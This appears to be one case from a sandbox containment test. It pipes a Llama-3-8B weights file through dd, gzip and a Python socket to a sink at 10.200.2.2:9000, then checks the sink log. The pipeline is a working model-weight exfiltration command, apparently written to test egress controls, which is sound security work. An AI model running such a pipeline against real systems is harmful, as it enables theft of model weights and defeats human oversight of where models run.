# V39 EXF-001 through a three-stage pipeline: dd reads the weights, gzip compresses, python sends stdin
ctr_run simctr-infer-v39 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  dd if=$0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors bs=1M status=none | gzip -1 | python3 -c "
import socket, sys
s = socket.create_connection((\"10.200.2.2\", 9000)); n = 0
while d := sys.stdin.buffer.read(1 << 20):
    s.sendall(d); n += len(d)
s.close(); print(\"sent\", n)"' "$H"
grep ':9000' "$H/sink.log" | tail -1
